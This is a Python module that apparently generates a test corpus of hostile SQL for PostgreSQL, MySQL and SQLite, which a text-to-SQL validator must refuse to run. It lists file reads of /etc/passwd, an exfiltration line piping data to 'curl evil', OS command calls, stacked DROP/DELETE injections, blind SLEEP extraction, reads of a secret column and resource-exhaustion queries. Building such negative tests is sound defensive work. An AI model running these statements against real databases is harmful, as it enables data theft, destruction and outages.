"""Statements that must never be run: written by hand in families, and each dangerous expression in every place where an
expression can stand."""

from collections.abc import Iterator

from app.textsql.schema import Dialect

# What an expression may be put into.
_PLACES = (
    "SELECT {}",
    "SELECT name, {} AS x FROM customers",
    "SELECT * FROM customers WHERE {} IS NOT NULL",
    "SELECT * FROM customers WHERE id = 1 OR {} = 1",
    "SELECT name FROM customers ORDER BY {}",
    "SELECT country FROM customers GROUP BY country, {}",
    "SELECT country FROM customers GROUP BY country HAVING MAX({}) IS NULL",
    "SELECT COALESCE(name, UPPER({})) FROM customers",
    "SELECT CASE WHEN id = 1 THEN {} ELSE 0 END FROM customers",
    "WITH x AS (SELECT {} AS y) SELECT y FROM x",
    "SELECT (SELECT {})",
    "SELECT * FROM (SELECT {} AS y) AS q",
    "SELECT 1 UNION ALL SELECT {}",
    "SELECT c.name FROM customers c JOIN orders o ON o.id = {}",
    "SELECT SUM(id) OVER (ORDER BY {}) FROM customers",
    "SELECT id FROM customers WHERE id IN (SELECT {})",
    "SELECT id FROM customers WHERE EXISTS (SELECT {})",
    "SELECT /* harmless */ {} -- nothing",
)
_FUNCTIONS = {
    Dialect.POSTGRESQL: """
        pg_sleep(10)|PG_SLEEP(10)|pg_catalog.pg_sleep(10)|"pg_sleep"(10)|pg_sleep_for('1 hour')|pg_sleep_until(now())
        pg_read_file('/etc/passwd')|pg_read_binary_file('/etc/passwd')|pg_ls_dir('/')|pg_stat_file('/etc/passwd')
        lo_import('/etc/passwd')|lo_export(1, '/tmp/x')|lo_get(1)|lo_create(1)|lo_unlink(1)|loread(1, 2)
        dblink('host=evil', 'select 1')|dblink_connect('x')|dblink_exec('x', 'drop table y')
        query_to_xml('select * from pg_shadow', true, true, '')|table_to_xml('customers', true, true, '')
        database_to_xml(true, true, '')|cursor_to_xml('c', 1, true, true, '')|xpath('/a', '<a/>')
        set_config('log_statement', 'none', false)|current_setting('data_directory')|pg_reload_conf()
        nextval('orders_id_seq')|setval('orders_id_seq', 1)|currval('x')|lastval()
        pg_advisory_lock(1)|pg_try_advisory_lock(1)|pg_terminate_backend(1)|pg_cancel_backend(1)
        version()|current_database()|current_schema()|current_schemas(true)|inet_server_addr()|pg_backend_pid()
        has_table_privilege('customers', 'select')|pg_table_size('customers')|pg_relation_filepath('customers')
        txid_current()|pg_notify('x', 'y')|pg_export_snapshot()|pg_logical_emit_message(true, 'a', 'b')
        pg_get_viewdef('customers'::regclass)|to_regclass('customers')|obj_description(1)|pg_get_userbyid(10)
        repeat('x', 1000000000)|repeat('x', id)|lpad('x', 999999999, 'y')|format('%999999999s', 'x')
        array_fill(1, ARRAY[100000000])
        row_to_json(customers)|json_agg(customers)|count(customers)|jsonb_agg(c.*)|to_jsonb(customers)|customers.*::text
        user|current_user|session_user|current_role|current_catalog|current_schema|system_user
        customers|customers.ctid|ctid|xmin|tableoid|customers.secret|secret|(customers).secret|(customers).name
        'customers'::regclass|'pg_sleep'::regproc|1::oid|'x'::cstring|'<a/>'::xml|'x'::customers|'x'::public.mytype
        1 OPERATOR(pg_catalog.+) 1|$1|:x|%(x)s|nosuchcolumn|random_function_name(1)|generate_series(1, 999999999999)
        xmlelement(name foo)|xmlparse(document '<a/>')|gen_random_bytes(10)|crypt('a', 'b')|pgp_sym_decrypt('a', 'b')
        convert_from(pg_read_binary_file('/etc/passwd'), 'UTF8')|encode(lo_get(1), 'hex')|U&'\\0061'|setseed(0.1)
    """,
    Dialect.MYSQL: """
        SLEEP(10)|sleep(10)|BENCHMARK(1000000000, MD5('x'))|LOAD_FILE('/etc/passwd')|load_file(0x2f6574632f706173737764)
        GET_LOCK('a', 100)|RELEASE_LOCK('a')|IS_FREE_LOCK('a')|RELEASE_ALL_LOCKS()|MASTER_POS_WAIT('a', 1)
        @@version|@@global.secure_file_priv|@@session.sql_mode|@@datadir|@x|@x := 1|(@x := @x + 1)
        VERSION()|USER()|CURRENT_USER()|CURRENT_USER|SESSION_USER()|SYSTEM_USER()|DATABASE()|SCHEMA()|CONNECTION_ID()
        LAST_INSERT_ID()|ROW_COUNT()|FOUND_ROWS()|UUID()|UUID_SHORT()|NAME_CONST('a', 1)|EXTRACTVALUE('<a/>', '/a')
        UPDATEXML('<a/>', '/a', 'b')|sys_exec('id')|sys_eval('id')|lib_mysqludf_sys_info()|EXPORT_SET(1, 'a', 'b')
        NEXTVAL(s)|NEXT VALUE FOR s|LASTVAL(s)|SETVAL(s, 1)|DEFAULT(name)|VALUES(name)|COLUMN_JSON(name)
        REPEAT('x', 1000000000)|REPEAT('x', id)|SPACE(1000000000)|LPAD('x', 999999999, 'y')|RPAD('x', id, 'y')
        mysql.foo(1)|`sleep`(1)|shop.sleep(1)|secret|customers.secret|customers|UPPER(customers.*)|nosuchcolumn
        AES_DECRYPT(name, 'k')|DES_ENCRYPT('a')|PASSWORD('a')|ENCRYPT('a')|OLD_PASSWORD('a')|COMPRESS(name)
        _utf8'x'|_binary 'x'|N'x'|x'73656c656374'|0x73656c656374|b'1'|?|:x|%s
        WSREP_LAST_SEEN_GTID()|BINLOG_GTID_POS('a', 1)|DECODE_HISTOGRAM('a', 'b')|SFORMAT('a')|KDF('a', 'b')
        JSON_ARRAYAGG(customers)|COUNT(customers.*)|ROW_FORMAT(1)|PS_THREAD_ID(1)|FORMAT_BYTES(1)|sys.version_major()
    """,
    Dialect.SQLITE: """
        load_extension('/tmp/x.so')|LOAD_EXTENSION('x')|readfile('/etc/passwd')|writefile('/tmp/x', 'y')|edit('x')
        fts3_tokenizer('x')|fts3_tokenizer('x', zeroblob(8))|sqlite_version()|sqlite_source_id()
        sqlite_compileoption_get(1)
        randomblob(1000000000)|zeroblob(1000000000)|printf('%1000000000d', 1)
        printf('%*d', 1000000000, 1)|format('%.999999999f', 1)
        printf(name, 1)|changes()|total_changes()|last_insert_rowid()|sqlite_offset(id)|sqlite_log(1, 'x')
        rowid|_rowid_|oid|customers.rowid|secret|customers.secret|customers|UPPER(customers.*)|nosuchcolumn|"nosuchcolumn"|hidden
        name MATCH 'x'|name REGEXP 'x'|customers MATCH 'x'|raise(abort, 'x')|raise(ignore)|load_extension
        ?|?1|:a|@a|$a|x'00'|X'41'|main.customers|eval('select 1')|shell('id')|system('id')|crypto_hash('a')
        ieee754(1)|decimal(1)|uuid()|sha3('x')|regexpi('a', 'b')|sqlar_uncompress(name, 1)|zipfile(name)|lsmode(1)
        json_group_array(customers)|count(customers.*)|snippet(customers)
        highlight(customers, 1, 'a', 'b')|bm25(customers)
        matchinfo(customers)|offsets(customers)|optimize(customers)|soundex(name)|icu_load_collation('a', 'b')
        define('f', '1')|fsdir('/')|ext_load('x')|sqlite_rename_table(1)|subtype(name)|pragma_table_info('customers')
    """,
}
_STATEMENTS_EVERYWHERE = """
DROP TABLE customers
DELETE FROM customers
UPDATE customers SET name = 'x'
INSERT INTO customers (id) VALUES (9)
INSERT INTO customers SELECT * FROM customers
REPLACE INTO customers VALUES (1)
CREATE TABLE x (id int)
CREATE TABLE x AS SELECT * FROM customers
CREATE VIEW x AS SELECT 1
CREATE INDEX x ON customers (id)
CREATE TRIGGER x BEFORE INSERT ON customers BEGIN SELECT 1; END
ALTER TABLE customers ADD COLUMN x int
ALTER TABLE customers RENAME TO x
TRUNCATE TABLE customers
GRANT ALL ON customers TO public
REVOKE ALL ON customers FROM public
BEGIN
COMMIT
ROLLBACK
SAVEPOINT x
EXPLAIN SELECT 1
EXPLAIN ANALYZE SELECT 1
ANALYZE customers
VACUUM
REINDEX customers
SELECT 1; DROP TABLE customers
SELECT 1; SELECT 2
SELECT 1;; DELETE FROM customers
SELECT 1; -- comment
DROP TABLE customers
SELECT * FROM customers; COMMIT; DELETE FROM customers
SELECT 1 /* ; */ ; DELETE FROM customers
SELECT * INTO stolen FROM customers
SELECT name INTO stolen FROM customers WHERE id = 1
WITH x AS (DELETE FROM customers RETURNING *) SELECT * FROM x
WITH x AS (UPDATE customers SET name = 'x' RETURNING id) SELECT * FROM x
WITH x AS (INSERT INTO customers (id) VALUES (7) RETURNING id) SELECT * FROM x
WITH x AS (SELECT 1) DELETE FROM customers
WITH x AS (SELECT 1) UPDATE customers SET name = 'x'
WITH x AS (SELECT 1) INSERT INTO customers SELECT 1
SELECT * FROM customers FOR UPDATE
SELECT * FROM customers FOR UPDATE NOWAIT
SELECT * FROM customers FOR SHARE
SELECT * FROM (SELECT * FROM customers FOR UPDATE) x
SELECT * FROM payroll
SELECT amount FROM payroll
SELECT c.name, p.amount FROM customers c JOIN payroll p ON p.id = c.id
SELECT name FROM customers WHERE id IN (SELECT id FROM payroll)
SELECT (SELECT MAX(amount) FROM payroll)
WITH x AS (SELECT * FROM payroll) SELECT * FROM x
SELECT name FROM customers UNION SELECT amount FROM payroll
SELECT secret FROM customers
SELECT c.secret FROM customers c
SELECT name FROM customers WHERE secret LIKE 'a%'
SELECT name FROM customers ORDER BY secret
SELECT COUNT(*) FROM customers GROUP BY secret
SELECT name FROM customers GROUP BY name HAVING MAX(secret) = 'a'
SELECT c.name FROM customers c JOIN orders o ON o.note = c.secret
SELECT name FROM customers JOIN employees USING (secret)
SELECT (SELECT secret FROM customers LIMIT 1)
SELECT x.secret FROM (SELECT * FROM customers) x
WITH x AS (SELECT * FROM customers) SELECT secret FROM x
SELECT iban FROM employees
SELECT e.name, e.iban FROM employees e
SELECT MAX(iban) FROM employees
SELECT c FROM customers c
SELECT customers FROM customers
SELECT COUNT(c) FROM customers c
SELECT COALESCE(c, c) FROM customers c
SELECT DISTINCT c FROM customers c
SELECT COUNT(c.*) FROM customers c
SELECT MAX(c.*) FROM customers c
SELECT * FROM customers WHERE customers IS NOT NULL
SELECT * FROM customers c ORDER BY c
SELECT * FROM nosuchtable
SELECT nosuchtable.id FROM customers
SELECT * FROM customers c, customers c
SELECT * FROM otherdb.public.customers
SELECT * FROM nosuchschema.customers
SELECT id FROM customers, orders
SELECT name FROM customers, employees
SELECT x FROM (SELECT 1 AS x, 2 AS x) q
SELECT * FROM customers LIMIT (SELECT COUNT(*) FROM payroll)
SELECT * FROM customers LIMIT -1
SELECT * FROM customers LIMIT 1 OFFSET (SELECT 1)
SELECT * FROM customers LIMIT 1 + 1
SELECT ? FROM customers
SELECT name FROM customers WHERE id = ?
SELECT * FROM customers AS c (secret, b)
SELECT * FROM
SELECT FROM
SELECT
(
SELECT ((((1)
SELECT 'unclosed
SELECT "unclosed
SELECT 1 /* unclosed
hello
42
;
TABLE payroll
VALUES (1)
SHOW TABLES
SET x = 1
USE other
CALL f()
DO SLEEP(1)
PREPARE x FROM 'SELECT 1'
EXECUTE x
DEALLOCATE PREPARE x
DECLARE c CURSOR FOR SELECT 1
FETCH ALL FROM c
LOCK TABLE customers
LOCK TABLES customers READ
UNLOCK TABLES
KILL 1
SHUTDOWN
MERGE INTO customers USING orders ON 1 = 1 WHEN MATCHED THEN DELETE
SELECT * FROM customers TABLESAMPLE SYSTEM (1)
SELECT * FROM customers PIVOT (SUM(id) FOR name IN ('a'))
SELECT TOP 1 * FROM customers
SELECT * EXCEPT (name) FROM customers
SELECT * FROM customers QUALIFY ROW_NUMBER() OVER (ORDER BY id) = 1
SELECT * FROM customers CONNECT BY id = 1
WITH RECURSIVE x AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM x) SELECT * FROM x
WITH RECURSIVE x(n) AS (SELECT 1 UNION ALL SELECT n FROM x) SELECT COUNT(*) FROM x
WITH RECURSIVE x(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM x WHERE n > 0) SELECT * FROM x
WITH RECURSIVE x(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM x WHERE 1 = 1) SELECT * FROM x
WITH RECURSIVE x(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM x WHERE n < 1000000000000) SELECT * FROM x
WITH RECURSIVE x(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM x WHERE n < 10 OR 1 = 1) SELECT * FROM x
WITH RECURSIVE x(n) AS (SELECT 1 UNION ALL SELECT a.n + 1 FROM x a, x b WHERE a.n < 50) SELECT * FROM x
WITH RECURSIVE x(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM x, customers WHERE n < 50) SELECT * FROM x
WITH RECURSIVE x(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM x CROSS JOIN orders WHERE n < 50) SELECT * FROM x
WITH RECURSIVE x(n) AS (SELECT 1 UNION ALL SELECT n FROM x WHERE n < 5) SELECT COUNT(*) FROM x
WITH RECURSIVE x(n) AS (SELECT 1 UNION ALL SELECT n - 1 FROM x WHERE n < 5) SELECT COUNT(*) FROM x
WITH RECURSIVE x(n) AS (SELECT 1 UNION ALL SELECT x.n FROM x JOIN customers c ON c.id = c.id) SELECT COUNT(*) FROM x
WITH RECURSIVE x(n) AS (SELECT 1 UNION ALL SELECT x.n FROM x JOIN customers c ON x.n = x.n) SELECT COUNT(*) FROM x
WITH RECURSIVE x(s) AS (SELECT 'x' UNION ALL SELECT CONCAT(s, s) FROM x) SELECT * FROM x
"""
_STATEMENTS = {
    Dialect.POSTGRESQL: """
COPY customers TO '/tmp/x'
SELECT "secret" FROM customers
COPY customers FROM '/tmp/x'
COPY (SELECT * FROM customers) TO PROGRAM 'curl evil'
DO $$ BEGIN PERFORM pg_sleep(1); END $$
SELECT * FROM pg_class
SELECT * FROM pg_catalog.pg_class
SELECT * FROM pg_shadow
SELECT * FROM pg_stat_activity
SELECT * FROM information_schema.tables
SELECT * FROM information_schema . columns
SELECT usename FROM pg_user
SELECT * FROM public.payroll
SELECT * FROM ONLY customers
SELECT * FROM pg_ls_dir('/') AS f
SELECT * FROM pg_read_file('/etc/passwd') AS f(x)
SELECT * FROM dblink('x', 'select 1') AS t(id int)
SELECT * FROM pg_stat_file('x')
SELECT * FROM customers, pg_sleep(1)
SELECT * FROM customers, LATERAL pg_sleep(1)
SELECT * FROM ROWS FROM (generate_series(1, 2), pg_sleep(1))
SELECT * FROM current_user
SELECT * FROM version()
SELECT * FROM generate_series(1, 100000000000)
SELECT * FROM unnest(pg_ls_dir('/'))
SELECT * FROM jsonb_each(to_jsonb(customers))
SELECT * FROM json_populate_record(null::customers, '{}')
SELECT * FROM json_each(pg_read_file('/etc/passwd')::json)
SELECT * FROM xmltable('/a' PASSING '<a/>' COLUMNS x text PATH 'b')
SELECT * FROM crosstab('select 1') AS t(a int)
SELECT * FROM ts_stat('select 1')
SELECT * FROM pg_get_keywords()
SELECT * FROM customers FOR NO KEY UPDATE
SELECT * FROM customers FOR KEY SHARE SKIP LOCKED
SELECT 1 INTO TEMP x
SELECT * INTO UNLOGGED x FROM customers
LISTEN x
NOTIFY x, 'y'
UNLISTEN *
SET ROLE postgres
SET SESSION AUTHORIZATION postgres
RESET ALL
SHOW data_directory
LOAD 'x'
CREATE EXTENSION dblink
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'
CHECKPOINT
CLUSTER customers
REFRESH MATERIALIZED VIEW x
SECURITY LABEL ON TABLE customers IS 'x'
COMMENT ON TABLE customers IS 'x'
IMPORT FOREIGN SCHEMA x FROM SERVER y INTO z
SELECT (SELECT (SELECT "secret" FROM customers LIMIT 1) FROM (SELECT 1 AS zzz) customers)
SELECT (c).secret FROM customers c
SELECT (c).* FROM customers c
SELECT c.name.secret FROM customers c
SELECT c."secret" FROM customers c
SELECT (SELECT c FROM customers c LIMIT 1).secret
SELECT upper(c::text) FROM customers c
SELECT c::text FROM customers c
SELECT CAST(c AS text) FROM customers c
SELECT array_agg(c) FROM customers c
SELECT ROW(c.*) FROM customers c
SELECT c IS NULL FROM customers c
SELECT c = c FROM customers c
SELECT c.text FROM customers c
SELECT c.pg_sleep FROM customers c
SELECT name.upper FROM customers
SELECT * FROM customers c WHERE c.* IS NOT NULL
SELECT E'\\000'
SELECT U&'d\\0061t\\+000061'
SELECT U&"secr\\0065t" FROM customers
SELECT 'a' 'b'; DELETE FROM customers
SELECT $$a$$; DELETE FROM customers
SELECT * FROM customers WHERE name = 'a' OR 1 = 1; --
SELECT ARRAY(SELECT secret FROM customers)
SELECT * FROM customers WHERE id = ANY (SELECT id FROM payroll)
SELECT name FROM customers WHERE (id, 1) IN (SELECT id, 1 FROM payroll)
SELECT string_agg(secret, ',') FROM customers
SELECT count(*) FILTER (WHERE secret = 'a') FROM customers
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY secret) FROM customers
SELECT repeat(repeat('x', 10000), 10000)
SELECT length(lpad(repeat('x', 200), 200, 'y'))
SELECT length(repeat((SELECT repeat('x', 1000)), 1000))
SELECT replace(repeat('x', 10000), 'x', repeat('y', 10000))
SELECT 'x'::char(10485760)
SELECT '1'::bit(80000000)
SELECT COUNT(*) FROM generate_series(1, 1000000::bigint * 1000000)
SELECT COUNT(*) FROM generate_series(1, (10 ^ 12)::bigint)
SELECT COUNT(*) FROM generate_series(1, 9 ^ 9 ^ 9 ^ 9)
SELECT COUNT(*) FROM generate_series('0001-01-01'::timestamp, '9999-01-01'::timestamp, '1 second')
SELECT COUNT(*) FROM generate_series(now() - interval '100 years', now(), interval '1 second')
SELECT COUNT(*) FROM generate_series(current_date, current_date + interval '900 years', interval '1' minute)
SELECT DISTINCT ON (secret) name FROM customers
SELECT sum(id) OVER (PARTITION BY secret) FROM customers
SELECT sum(id) OVER w FROM customers WINDOW w AS (ORDER BY secret)
SELECT x.* FROM customers c, LATERAL (SELECT c.secret) x
SELECT name FROM customers GROUP BY GROUPING SETS ((secret), ())
SELECT name FROM customers NATURAL JOIN payroll
WITH RECURSIVE x AS (SELECT id FROM payroll UNION ALL SELECT id + 1 FROM x) SELECT * FROM x
WITH RECURSIVE x AS (DELETE FROM customers RETURNING id) SELECT * FROM x
WITH customers AS (TABLE customers) SELECT secret FROM customers
WITH RECURSIVE x AS (SELECT 1 AS a UNION ALL SELECT a FROM x) SEARCH DEPTH FIRST BY a SET o SELECT * FROM x
""",
    Dialect.MYSQL: """
SELECT * FROM customers INTO OUTFILE '/tmp/x'
SELECT name INTO OUTFILE '/tmp/x' FROM customers
SELECT name FROM customers INTO DUMPFILE '/tmp/x'
SELECT name FROM customers INTO @x
SELECT name INTO @x FROM customers
SELECT /*! SLEEP(10) */ 1
SELECT 1 /*!50000 UNION SELECT amount FROM payroll */
SELECT 1 /*!UNION SELECT 2*/
SELECT 1 /*M! UNION SELECT 2 */
SELECT /*+ MAX_EXECUTION_TIME(0) */ * FROM customers
SELECT /*+ SET_VAR(max_execution_time=0) */ 1
/*!50000 DROP TABLE customers */
SELECT 1 -- x
; DROP TABLE customers
SELECT 1 # x
; DROP TABLE customers
LOAD DATA INFILE '/etc/passwd' INTO TABLE customers
LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE customers
LOAD XML INFILE 'x' INTO TABLE customers
HANDLER customers OPEN
HANDLER customers READ FIRST
SHOW DATABASES
SHOW VARIABLES
SHOW GRANTS
SHOW CREATE TABLE customers
SHOW PROCESSLIST
DESCRIBE customers
DESC customers
HELP 'x'
SET GLOBAL general_log = 1
SET @x = 1
SET PASSWORD = 'x'
RENAME TABLE customers TO x
OPTIMIZE TABLE customers
REPAIR TABLE customers
CHECK TABLE customers
CHECKSUM TABLE customers
FLUSH TABLES
RESET MASTER
PURGE BINARY LOGS TO 'x'
CHANGE MASTER TO MASTER_HOST = 'x'
INSTALL PLUGIN x SONAME 'y'
UNINSTALL PLUGIN x
CREATE USER x
DROP DATABASE shop
XA START 'x'
BINLOG 'x'
CACHE INDEX t IN x
EXECUTE IMMEDIATE 'DROP TABLE customers'
BEGIN NOT ATOMIC DROP TABLE customers; END
DELIMITER //
SELECT * FROM mysql.user
SELECT * FROM information_schema.tables
SELECT * FROM INFORMATION_SCHEMA.COLUMNS
SELECT * FROM performance_schema.threads
SELECT * FROM sys.session
SELECT * FROM `mysql`.`user`
SELECT * FROM other.customers
SELECT * FROM shop.payroll
SELECT * FROM customers PARTITION (p0)
SELECT * FROM customers USE INDEX (a)
SELECT * FROM customers FORCE INDEX (a)
SELECT * FROM customers IGNORE INDEX (a)
SELECT * FROM customers FOR SYSTEM_TIME ALL
SELECT * FROM customers FOR SYSTEM_TIME AS OF NOW()
SELECT SQL_CALC_FOUND_ROWS * FROM customers
SELECT SQL_NO_CACHE * FROM customers
SELECT HIGH_PRIORITY * FROM customers
SELECT STRAIGHT_JOIN * FROM customers
SELECT * FROM customers STRAIGHT_JOIN orders
SELECT * FROM customers LOCK IN SHARE MODE
SELECT * FROM customers FOR UPDATE SKIP LOCKED
SELECT * FROM customers PROCEDURE ANALYSE()
SELECT * FROM customers WHERE name SOUNDS LIKE LOAD_FILE('x')
SELECT name FROM customers LIMIT 1 PROCEDURE ANALYSE(1, 1)
SELECT a FROM (SELECT @x := 1 AS a) q
SELECT JSON_TABLE('[]', '$' COLUMNS (a INT PATH '$'))
SELECT * FROM JSON_TABLE(LOAD_FILE('/etc/passwd'), '$[*]' COLUMNS (a INT PATH '$')) j
SELECT * FROM JSON_TABLE((SELECT secret FROM customers LIMIT 1), '$[*]' COLUMNS (a INT PATH '$')) j
SELECT GROUP_CONCAT(secret) FROM customers
SELECT REPEAT(REPEAT('x', 10000), 10000)
SELECT REPLACE(SPACE(10000), ' ', REPEAT('y', 10000))
SELECT CAST('x' AS BINARY(1000000000))
SELECT CAST('x' AS CHAR(1000000000))
SELECT GROUP_CONCAT(name ORDER BY secret) FROM customers
SELECT GROUP_CONCAT(name SEPARATOR (SELECT secret FROM customers)) FROM customers
SELECT MATCH(secret) AGAINST ('x') FROM customers
SELECT MATCH(name) AGAINST (LOAD_FILE('x')) FROM customers
SELECT customers.* , payroll.* FROM customers, payroll
SELECT name FROM customers WHERE name = 'x' PROCEDURE x()
SELECT CAST(name AS CHAR CHARACTER SET binary) INTO @x FROM customers
SELECT * FROM customers NATURAL JOIN payroll
SELECT name FROM customers GROUP BY secret WITH ROLLUP
SELECT CONVERT(LOAD_FILE('x') USING utf8mb4)
SELECT IF(ASCII(SUBSTRING((SELECT secret FROM customers LIMIT 1), 1, 1)) > 64, SLEEP(5), 0)
SELECT 1 INTO @a
SELECT * FROM (SELECT * FROM customers INTO OUTFILE 'x') y
SELECT * FROM seq_1_to_1000000000
SELECT PREVIOUS VALUE FOR s
RETURN 1
SIGNAL SQLSTATE '45000'
CREATE OR REPLACE EVENT e ON SCHEDULE EVERY 1 SECOND DO SELECT 1
""",
    Dialect.SQLITE: """
ATTACH DATABASE '/tmp/x' AS y
ATTACH '/etc/passwd' AS y
DETACH DATABASE main
PRAGMA table_info(customers)
PRAGMA writable_schema = ON
PRAGMA query_only = OFF
PRAGMA journal_mode = DELETE
VACUUM INTO '/tmp/x'
SELECT * FROM sqlite_master
SELECT * FROM sqlite_schema
SELECT * FROM main.sqlite_master
SELECT * FROM sqlite_temp_master
SELECT * FROM sqlite_sequence
SELECT * FROM sqlite_stat1
SELECT * FROM dbstat
SELECT * FROM sqlite_dbpage
SELECT * FROM sqlite_stmt
SELECT * FROM pragma_table_info('customers')
SELECT * FROM pragma_database_list
SELECT * FROM pragma_function_list()
SELECT * FROM pragma_module_list
SELECT * FROM fsdir('/')
SELECT * FROM zipfile('/tmp/x')
SELECT * FROM csv('/etc/passwd')
SELECT * FROM generate_series(1, 100000000000)
SELECT * FROM bytecode('SELECT 1')
SELECT * FROM tables_used('SELECT 1')
SELECT * FROM json_each(readfile('/etc/passwd'))
SELECT * FROM json_each((SELECT secret FROM customers))
SELECT * FROM customers, json_each(customers)
SELECT * FROM json_tree(load_extension('x'))
SELECT * FROM temp.customers
SELECT * FROM y.customers
SELECT * FROM main.payroll
SELECT * FROM customers INDEXED BY x
SELECT * FROM customers NOT INDEXED
SELECT rowid, name FROM customers
SELECT customers._rowid_ FROM customers
SELECT oid FROM customers
SELECT name FROM customers WHERE rowid = 1
SELECT "nosuch" FROM customers
SELECT name FROM customers WHERE name = "ada"
SELECT [secret] FROM customers
SELECT "secret" FROM customers
SELECT `secret` FROM customers
SELECT 'secret' FROM payroll
SELECT group_concat(secret) FROM customers
SELECT group_concat(name, secret) FROM customers
SELECT count(*) FILTER (WHERE secret = 'a') FROM customers
SELECT sum(id) OVER (PARTITION BY secret) FROM customers
SELECT name FROM customers NATURAL JOIN payroll
SELECT name FROM customers WHERE id IN payroll
SELECT name FROM customers WHERE id IN main.payroll
SELECT name FROM customers WHERE id IN sqlite_master
SELECT name FROM customers WHERE id IN json_each('[1]')
SELECT name FROM customers WHERE (id, 1) IN (SELECT id, 1 FROM payroll)
SELECT name FROM customers WHERE name LIKE secret
SELECT name FROM customers ORDER BY name COLLATE load_extension('x')
SELECT name COLLATE "a b" FROM customers
SELECT name FROM customers WHERE name -> secret IS NULL
SELECT CAST(secret AS TEXT) FROM customers
SELECT CAST(name AS "my type") FROM customers
SELECT iif(secret > 'a', 1, 2) FROM customers
SELECT max(secret, name) FROM customers
SELECT (SELECT (SELECT secret FROM customers LIMIT 1) FROM orders LIMIT 1)
SELECT name FROM customers UNION SELECT sql FROM sqlite_master
SELECT name FROM customers EXCEPT SELECT sql FROM sqlite_schema
SELECT sql FROM sqlite_master WHERE type = 'table'
INSERT OR REPLACE INTO customers (id) VALUES (1)
UPDATE OR IGNORE customers SET name = 'x'
DELETE FROM customers RETURNING name
INSERT INTO customers (id) VALUES (1) ON CONFLICT DO NOTHING
INSERT INTO customers DEFAULT VALUES
CREATE VIRTUAL TABLE x USING fts5(y)
CREATE TEMP TABLE x AS SELECT 1
CREATE TEMP VIEW x AS SELECT 1
CREATE TEMP TRIGGER t AFTER INSERT ON customers BEGIN DELETE FROM customers; END
DROP VIEW x
RELEASE x
EXPLAIN QUERY PLAN SELECT 1
REINDEX
ANALYZE
END TRANSACTION
.read /etc/passwd
.shell id
.load x
SELECT load_extension('x') UNION SELECT 1
SELECT 1 UNION SELECT load_extension('x')
SELECT * FROM (SELECT load_extension('x'))
WITH x AS (SELECT load_extension('x')) SELECT * FROM x
WITH sqlite_master AS (SELECT * FROM sqlite_master) SELECT * FROM sqlite_master
WITH x(a) AS (SELECT * FROM pragma_table_info('customers')) SELECT a FROM x
VALUES (load_extension('x'))
SELECT * FROM (VALUES (load_extension('x')))
SELECT x'2f6574632f706173737764'
SELECT char(0) || load_extension('x')
SELECT RAISE(ABORT, 'x')
SELECT name FROM customers LIMIT load_extension('x')
SELECT name FROM customers LIMIT 1 OFFSET load_extension('x')
""",
}


def hostile(dialect: Dialect) -> list[str]:
    """All of them, without repetitions."""
    return list(dict.fromkeys(_generate(dialect)))


def _generate(dialect: Dialect) -> Iterator[str]:
    # A line that begins with a semicolon, or with DROP after a comment, goes on with the statement above.
    for block in (_STATEMENTS_EVERYWHERE, _STATEMENTS[dialect]):
        previous = ""
        for line in block.strip().splitlines():
            if previous.endswith(("-- comment", "-- x", "# x")):
                yield f"{previous}\n{line}"
            elif not line.endswith(("-- comment", "-- x", "# x")):
                yield line
            previous = line
    for expression in _FUNCTIONS[dialect].replace("\n", "|").split("|"):
        if expression.strip():
            for place in _PLACES:
                yield place.format(expression.strip())
    yield from _bombs(dialect)


def _bombs(dialect: Dialect) -> Iterator[str]:
    yield "SELECT " + "(" * 5_000 + "1" + ")" * 5_000
    yield "SELECT " + "(SELECT " * 300 + "1" + ")" * 300
    yield "SELECT '" + "x" * 1_000_000 + "'"
    yield "SELECT " + "9" * 10_000
    yield "SELECT " + "-" + " -" * 3_000 + "1"
    yield "SELECT " + "NOT " * 3_000 + "1"
    yield "SELECT " + "1+" * 9_000 + "1"
    yield "SELECT 1 WHERE 1 IN (" + ",".join(["1"] * 9_000) + ")"
    yield "SELECT " + "CASE WHEN 1=1 THEN " * 500 + "1" + " END" * 500
    yield " UNION ALL ".join(["SELECT 1"] * 3_000)
    yield "WITH " + ", ".join(f"c{n} AS (SELECT 1 AS x)" for n in range(2_000)) + " SELECT 1"
    yield "SELECT * FROM customers WHERE " + " OR ".join(["id = 1"] * 2_000)
    yield "SELECT " + "[" * 500 + "]" * 500
    yield "/*" * 5_000
    yield "SELECT 1 -- " + "x" * 100_000
    for character in "\x00\x01\x08\x1a\x7f\u200b\u202e\ufeff\u2028\ud800":
        yield f"SELECT name{character} FROM customers"
        yield f"SELECT 'a{character}b'"
    if dialect is Dialect.MYSQL:
        yield "SELECT 1 /*! -- */ ; DROP TABLE customers"
        yield "SELECT 1 FROM customers WHERE name = '\\\\'; DROP TABLE customers; -- '"
